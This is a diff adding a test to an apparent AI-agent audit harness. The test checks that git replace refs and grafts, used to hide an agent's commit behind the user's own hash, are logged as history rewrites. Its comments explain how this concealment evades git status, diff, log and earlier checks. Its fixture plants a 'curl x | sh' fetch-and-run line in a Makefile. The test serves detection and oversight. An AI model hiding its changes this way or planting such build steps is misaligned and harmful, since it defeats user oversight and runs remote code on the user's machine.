@@ -6,7 +6,7 @@ audit mode."""
 import os
 import subprocess
 
-from lib import HELPERS, check, harness
+from lib import AUDIT_TOOL, HELPERS, check, harness
 
 PROBE = os.path.join(HELPERS, "static_ll_probe")
 
@@ -54,3 +54,64 @@ def test_audit_mode_signals_nothing_outside_the_session(wd):
         victim.kill()
         victim.wait()
 
+
+# The user's last commit replaced by one of the agent's whose tree holds
+# its change (git replace), the index made to match: the branch does not
+# move, and git status, git diff and git log (the user's own hash and
+# message) show nothing.
+REPLACE = ("M=$(git rev-parse HEAD); printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
+           " git add Makefile; T=$(git write-tree);"
+           " N=$(git cat-file commit $M | sed \"s/^tree .*/tree $T/\" |"
+           " git hash-object -t commit -w --stdin);")
+
+
+def test_a_commit_replaced_in_git_s_reading_is_recorded(wd):
+    """A replace ref (refs/replace/OID, loose or packed) or a graft has
+    git read another object wherever the first is named: the agent's
+    change in a commit that stands for the user's last one left git
+    status and git diff empty and git log showing the user's own hash,
+    and no record said so (hidden_changes compares the work tree with
+    the index, history_rewritten the branch, which did not move). Each
+    replace ref or graft the session makes, changes or removes is a
+    history_rewritten record now, and a warning."""
+    from gitrepo import GIT_ENV, project, status
+    env = project(wd, {"Makefile": "all:\n\techo ok\n"})
+
+    def log():
+        return subprocess.run(["git", "log", "--format=%H %an %s"], cwd=wd.path, env=env,
+                              capture_output=True, text=True).stdout
+    before = log()
+    for how, tail in (("loose", "git replace $M $N"),
+                      ("packed", "git replace $M $N && git pack-refs --all &&"
+                                 " test ! -e .git/refs/replace/$M")):
+        r = harness(["sh", "-c", REPLACE + tail], wd, policy=None,
+                    env=dict(GIT_ENV, HOME=wd.state))
+        check(r.status == 0, "%s: %s" % (how, r.stderr[-800:]))
+        recs = [x for x in r.events(event="history_rewritten")
+                if x.get("ref", "").startswith("refs/replace/")]
+        check(status(wd, env) == "" and log() == before,
+              "%s: git shows the change: %r %r" % (how, status(wd, env), log()))
+        check(len(recs) == 1 and recs[0]["was"] == "" and len(recs[0]["now"]) == 40,
+              "%s: no record of the replace ref: %s" % (how, r.dump()[-1500:]))
+        summary = subprocess.run([AUDIT_TOOL, "summary", r.log], capture_output=True, text=True)
+        check("%s rewritten: was" % recs[0]["ref"] in summary.stdout,
+              "%s: harness-audit summary: %r" % (how, summary.stdout[-800:]))
+        # The next session removes it: that is said too.
+        r = harness(["sh", "-c", "git replace -d $(git replace -l)"], wd, policy=None,
+                    env=dict(GIT_ENV, HOME=wd.state))
+        recs = r.events(event="history_rewritten")
+        check(r.status == 0 and len(recs) == 1 and recs[0]["now"] == "",
+              "%s: its removal: %s %s" % (how, r.stderr[-500:], r.dump()[-800:]))
+        subprocess.run(["git", "checkout", "-q", "--", "Makefile"], cwd=wd.path, env=env)
+        subprocess.run(["git", "reset", "-q"], cwd=wd.path, env=env)
+    # info/grafts, which git still reads (with a warning): the default
+    # refuses the write (.git/info), audit mode makes it.
+    r = harness(["sh", "-c", "echo $(git rev-parse HEAD) > .git/info/grafts"], wd,
+                policy=None, mode="audit", env=dict(GIT_ENV, HOME=wd.state))
+    recs = r.events(event="history_rewritten")
+    check(r.status == 0 and len(recs) == 1 and recs[0]["ref"] == "info/grafts",
+          "info/grafts: %s %s" % (r.stderr[-500:], r.dump()[-800:]))
+    # A session that changes none of it records none.
+    r = harness(["sh", "-c", "git status -s >/dev/null"], wd, policy=None,
+                env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-800:])
